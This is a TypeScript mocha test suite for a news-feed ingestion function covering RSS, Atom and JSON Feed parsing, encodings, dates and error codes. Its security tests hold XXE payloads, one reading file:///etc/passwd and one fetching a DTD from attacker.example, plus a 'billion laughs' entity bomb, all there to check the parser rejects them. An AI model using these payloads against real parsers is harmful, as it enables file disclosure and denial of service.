import { expect } from 'chai';
import iconv from 'iconv-lite';
import { gzipSync } from 'node:zlib';
import { WartaError } from '../../../../src/base/errors.js';
import type { IngestedFeed } from '../../../../src/base/model.js';
import { ingestDocument } from '../../../../src/pipeline/feed/ingest.js';
import {
  ATOM_BAD_DATE, ATOM_BLOG, JSON_FEED_10, JSON_FEED_11, RSS091, RSS1_RDF, RSS2_NEWS, RSS_BARE_AMP,
} from './fixtures.js';

const NOW = new Date('2024-09-01T00:00:00Z');

function ingest(body: string | Uint8Array, contentType: string | null = null, url = 'https://warta.example/feed/'): IngestedFeed {
  return ingestDocument(typeof body === 'string' ? Buffer.from(body, 'utf8') : body, { contentType, url, now: NOW });
}

// ingestDocument wraps anything unexpected as parse_error "ingest: unexpected failure …" (a bug, not an answer).
const UNEXPECTED = /^ingest: unexpected failure/;

/** The WartaError `fn` throws; a bug that ingestDocument merely wrapped fails here, whatever the code asserted. */
function failure(fn: () => unknown): WartaError {
  try {
    fn();
  } catch (err) {
    expect(err).to.be.instanceOf(WartaError);
    expect((err as Error).message, 'a bug wrapped as parse_error').to.not.match(UNEXPECTED);
    return err as WartaError;
  }
  throw new Error('expected a WartaError');
}

const iso = (d: Date | null) => d?.toISOString() ?? null;

describe('pipeline: ingestDocument', () => {
  it('RSS 2.0 with content:encoded and +0700 / WIT dates', () => {
    const feed = ingest(RSS2_NEWS, 'application/rss+xml; charset=UTF-8');
    expect(feed).to.include({ format: 'rss2', parser: 'rss-parser', title: 'Warta Nusantara – Berita Terkini', siteUrl: 'https://warta.example', ttlMinutes: 15 });
    const [a, b] = feed.items;
    expect(a).to.deep.include({
      guid: 'https://warta.example/?p=10231',
      link: 'https://warta.example/2024/08/12/harga-beras/',
      title: 'Harga Beras Turun ‘Signifikan’ di Jakarta',
      summary: '<p>Harga beras medium turun Rp&nbsp;500 per kilogram&#8230;</p>',
      content: '<p>Harga beras medium di pasar induk turun.</p><p><img src="/wp-content/uploads/beras.jpg" alt=""></p>',
      author: 'Siti Rahma',
      categories: ['Ekonomi', 'Jakarta'],
      updated: null,
    });
    expect(iso(a!.published)).to.equal('2024-08-12T03:00:00.000Z'); // the instant is kept, expressed in UTC
    expect(b!.link).to.equal('https://warta.example/2024/08/12/gempa-maluku/'); // relative to the channel link
    expect(iso(b!.published)).to.equal('2024-08-11T23:30:00.000Z'); // WIT = +0900
    expect(b!.content).to.equal(null);
  });

  it('Atom 1.0 with xml:base, relative links and html titles', () => {
    const feed = ingest(ATOM_BLOG, 'application/atom+xml', 'https://blog.example/atom.xml');
    expect(feed).to.include({ format: 'atom10', title: 'Notes & Essays', siteUrl: 'https://blog.example/' });
    const [a, b] = feed.items;
    expect(a).to.deep.include({
      guid: 'tag:blog.example,2024:ampersands',
      link: 'https://blog.example/2024/08/ampersands.html', // entry xml:base "/2024/08/" against the feed's
      title: 'Why & matters', // type="html": "Why <code>&amp;</code> matters" as text
      summary: 'Escaping, in brief: write &lt;b&gt; as text.',
      content: '<p>Write <code>&amp;amp;</code>, always.</p><p><a href="../../about/">About</a></p>',
      author: 'Ada', // inherited from the feed (RFC 4287 §4.2.1)
      categories: ['markup', 'html'],
    });
    expect(iso(a!.published)).to.equal('2024-08-09T22:30:00.000Z');
    expect(iso(a!.updated)).to.equal('2024-08-10T09:00:00.000Z');
    expect(b).to.deep.include({ title: 'Plain <title> text', link: 'https://blog.example/notes/plain' });
    // Only <updated>: the entry is dated by it.
    expect(iso(b!.published)).to.equal('2024-08-01T10:00:00.000Z');
  });

  it('RSS 1.0 (RDF) without guids', () => {
    const feed = ingest(RSS1_RDF, 'application/rdf+xml');
    expect(feed).to.include({ format: 'rss1', title: 'Tech Example', siteUrl: 'https://tech.example/' });
    expect(feed.items.map((i) => ({ guid: i.guid, link: i.link, published: iso(i.published) }))).to.deep.equal([
      { guid: null, link: 'https://tech.example/story/24/08/12/1?utm_source=rss1.0', published: '2024-08-12T14:00:00.000Z' },
      { guid: null, link: 'https://tech.example/story/24/08/12/2', published: '2024-08-12T15:00:00.000Z' }, // rdf:about
    ]);
    expect(feed.items[0]).to.deep.include({ author: 'msmash', categories: ['linux'] });
  });

  it('RSS 0.91 with the Netscape DOCTYPE and an HTML entity', () => {
    const feed = ingest(RSS091);
    expect(feed).to.include({ format: 'rss09', title: 'WriteTheWeb', siteUrl: 'http://writetheweb.com' });
    expect(feed.items).to.have.length(2);
    expect(feed.items[0]!.summary).to.contain('Gnutella\u00a0-allowing');
    expect(feed.items[1]).to.deep.include({ guid: null, summary: null, link: 'http://writetheweb.com/read.php?item=23' });
  });

  it('JSON Feed 1.1', () => {
    const feed = ingest(JSON_FEED_11, 'application/feed+json');
    expect(feed).to.include({ format: 'json11', parser: 'json', title: 'My Example Feed', siteUrl: 'https://example.org/' });
    const [a, b] = feed.items;
    expect(a).to.deep.include({
      guid: '2',
      title: '',
      content: 'This is a second item: 1 &lt; 2 &amp; 3 &gt; 2.', // content_text, as HTML
      author: 'Brent',
      categories: ['news', 'tech'],
    });
    expect(iso(a!.published)).to.equal('2024-08-12T03:00:00.000Z');
    expect(b).to.deep.include({ link: 'https://example.org/initial-post', summary: 'A &lt;greeting&gt;', author: 'Manton', content: '<p>Hello, world!</p>' });
    expect(iso(b!.updated)).to.equal('2024-08-11T10:00:00.000Z');
  });

  it('JSON Feed 1.0, recognised by content whatever the Content-Type', () => {
    const feed = ingest(JSON_FEED_10, 'text/plain');
    expect(feed).to.include({ format: 'json10', title: 'Old Style' });
    expect(feed.items[0]).to.deep.include({ guid: '1001', author: 'Jo', title: 'One thousand and one' });
  });

  it('ISO-8859-1 declared only in the XML prolog', () => {
    const body = iconv.encode('<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>Café Señor</title></channel></rss>', 'latin1');
    expect(ingest(body, 'application/xml').title).to.equal('Café Señor');
  });

  it('windows-1252 from the HTTP charset overrides the prolog', () => {
    // 0xA3 is £ in windows-1252 but Ł in ISO-8859-2; 0x93/0x94 are curly quotes in windows-1252 only.
    const head = Buffer.from('<?xml version="1.0" encoding="iso-8859-2"?><rss version="2.0"><channel><title>');
    const body = Buffer.concat([head, Buffer.from([0xa3, 0x93, 0x74, 0x94]), Buffer.from('</title></channel></rss>')]);
    expect(ingest(body, 'text/xml; charset=windows-1252').title).to.equal('£“t”');
    // Without an HTTP charset the prolog decides; ISO-8859-2 has C1 controls at 0x93/0x94, read as cp1252 quotes.
    expect(ingest(body, 'text/xml').title).to.equal('Ł“t”');
  });

  it('UTF-16 with a byte order mark, both byte orders', () => {
    const xml = '<?xml version="1.0" encoding="UTF-16"?><rss version="2.0"><channel><title>Привет 😀</title><item><title>日本語</title></item></channel></rss>';
    for (const encoding of ['utf-16le', 'utf-16be']) {
      const feed = ingest(iconv.encode(xml, encoding, { addBOM: true }));
      expect(feed.title, encoding).to.equal('Привет 😀');
      expect(feed.items[0]!.title, encoding).to.equal('日本語');
    }
  });

  it('a bare "&" and an undeclared HTML entity do not reject the feed', () => {
    const feed = ingest(RSS_BARE_AMP);
    expect(feed.title).to.equal('Tom & Jerry News'); // &nbsp; decoded; titles collapse all white space
    expect(feed.items[0]).to.deep.include({ title: 'Q&A: cats & mice', link: 'https://tj.example/read?id=1&ref=rss' });
  });

  it('an HTML page is not_a_feed', () => {
    for (const page of [
      '<!DOCTYPE html>\n<html lang="id"><head><title>Beranda</title></head><body><p>Selamat datang</p></body></html>',
      '<html><head><link rel="alternate" type="application/rss+xml" href="/feed/"></head><body>x</body></html>',
      '<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ]) {
      expect(failure(() => ingest(page, 'text/html; charset=utf-8')).code).to.equal('not_a_feed');
    }
  });

  it('truncated XML is a parse_error, not a crash and not a partial feed', () => {
    const cut = RSS2_NEWS.slice(0, RSS2_NEWS.indexOf('<item>', RSS2_NEWS.indexOf('<item>') + 1) + 20);
    const err = failure(() => ingest(cut));
    expect(err.code).to.equal('parse_error');
    expect(err.message).to.match(/truncated/);
  });

  it('an invalid Atom date leaves that date null and the rest of the feed intact', () => {
    const feed = ingest(ATOM_BAD_DATE);
    expect(feed.parser).to.equal('rss-parser'); // no fallback was needed
    expect(feed.items.map((i) => [i.guid, iso(i.published)])).to.deep.equal([
      ['a', null],
      ['b', '2024-08-01T00:00:00.000Z'],
    ]);
  });

  it('never expands an external entity (XXE)', () => {
    const attacks: [xml: string, title: string][] = [
      [
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>a&xxe;b</title><item><title>&xxe;</title></item></channel></rss>',
        'ab',
      ],
      [
        // The parameter entity is never fetched, so &exfil; stays undeclared and is shown as written.
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]><rss version="2.0"><channel><title>a&exfil;b</title></channel></rss>',
        'a&exfil;b',
      ],
      ['<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//X//Y" "file:///etc/passwd"><rss version="2.0"><channel><title>ab</title></channel></rss>', 'ab'],
    ];
    for (const [xml, title] of attacks) {
      const feed = ingest(xml);
      expect(feed.title).to.equal(title);
      expect(JSON.stringify(feed)).not.to.match(/root:|passwd|attacker/);
    }
  });

  it('survives "billion laughs" without expanding it', () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]><rss version="2.0"><channel><title>&lol9;</title><item><title>x&lol9;y</title></item></channel></rss>`;
    const feed = ingest(xml); // mocha's timeout bounds the time; a naive expansion would need 3 GB
    expect(feed.title).to.equal(null);
    expect(feed.items[0]!.title).to.equal('xy');
  });

  it('a date further in the future than 10 minutes of skew is null', () => {
    const item = (date: string) =>
      ingest(`<rss version="2.0"><channel><item><title>t</title><pubDate>${date}</pubDate></item></channel></rss>`).items[0]!.published;
    expect(iso(item('Sun, 01 Sep 2024 00:09:00 GMT'))).to.equal('2024-09-01T00:09:00.000Z');
    expect(item('Sun, 01 Sep 2024 00:11:00 GMT')).to.equal(null);
    expect(item('Sun, 01 Sep 2030 00:00:00 GMT')).to.equal(null);
  });

  // ingestDocument turns every throw into a WartaError, so "it threw a WartaError" proves nothing: each case says
  // the code and the message it must give, and a wrapped bug ("ingest: unexpected failure") never counts.
  it('throws only WartaErrors, whatever the bytes, each with its own code and message', () => {
    const cases: [string, Uint8Array, string, RegExp][] = [
      ['empty', Buffer.alloc(0), 'not_a_feed', /^parse: the document is empty$/],
      ['whitespace', Buffer.from(' \n\t '), 'not_a_feed', /^parse: the document is empty$/],
      ['plain text', Buffer.from('Service Unavailable'), 'not_a_feed', /^parse: the document is neither XML nor JSON$/],
      ['gzip the server forgot to declare', gzipSync(Buffer.from(RSS2_NEWS)), 'decode_error', /^decode: the body is gzip-compressed, not text/],
      ['broken JSON', Buffer.from('{"version": "https://jsonfeed.org/version/1.1", "items": ['), 'parse_error', /^parse: invalid JSON \(/],
      ['JSON that is not a feed', Buffer.from('{"status": "ok"}'), 'not_a_feed', /^parse: the JSON document is not a JSON Feed 1\.x/],
      ['a sitemap', Buffer.from('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url/></urlset>'), 'not_a_feed', /^parse: the document is <urlset>, not RSS, Atom or JSON Feed$/],
      ['only a prolog', Buffer.from('<?xml version="1.0"?>'), 'not_a_feed', /^parse: the document has no root element$/],
      ['an unclosed CDATA section', Buffer.from('<rss version="2.0"><channel><title><![CDATA[x'), 'parse_error', /^parse: the XML ends before <\/rss> \(truncated\?\)/],
    ];
    for (const [name, body, code, message] of cases) {
      const err = failure(() => ingest(body));
      expect(err.code, name).to.equal(code);
      expect(err.message, name).to.match(message);
    }
    // Every prefix of a real feed (a download cut anywhere) is a feed, a parse_error or a not_a_feed: empty, no
    // root element yet, or XML that ends before </rss>.
    for (let end = 0; end < RSS2_NEWS.length; end++) {
      let err: WartaError;
      try {
        ingest(RSS2_NEWS.slice(0, end));
        continue;
      } catch (e) {
        expect(e, `cut at ${end}`).to.be.instanceOf(WartaError);
        err = e as WartaError;
      }
      expect([err.code, err.message], `cut at ${end}`).to.satisfy(
        ([code, message]: [string, string]) =>
          (code === 'not_a_feed' && /^parse: the document (is empty|has no root element)$/.test(message)) ||
          (code === 'parse_error' && /^parse: the XML ends before <\/rss> \(truncated\?\)/.test(message)),
      );
    }
    // Binary noise inside a title: the XML is malformed, a parse_error from the parser, not a wrapped crash.
    for (let seed = 1; seed <= 20; seed++) {
      const noise = Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 7919 + seed * 104729) % 256));
      const err = failure(() => ingest(Buffer.concat([Buffer.from('<rss version="2.0"><channel><title>'), noise])));
      expect(err.code, `noise ${seed}`).to.equal('parse_error');
      expect(err.message, `noise ${seed}`).to.match(/^parse: /);
    }
  });
});
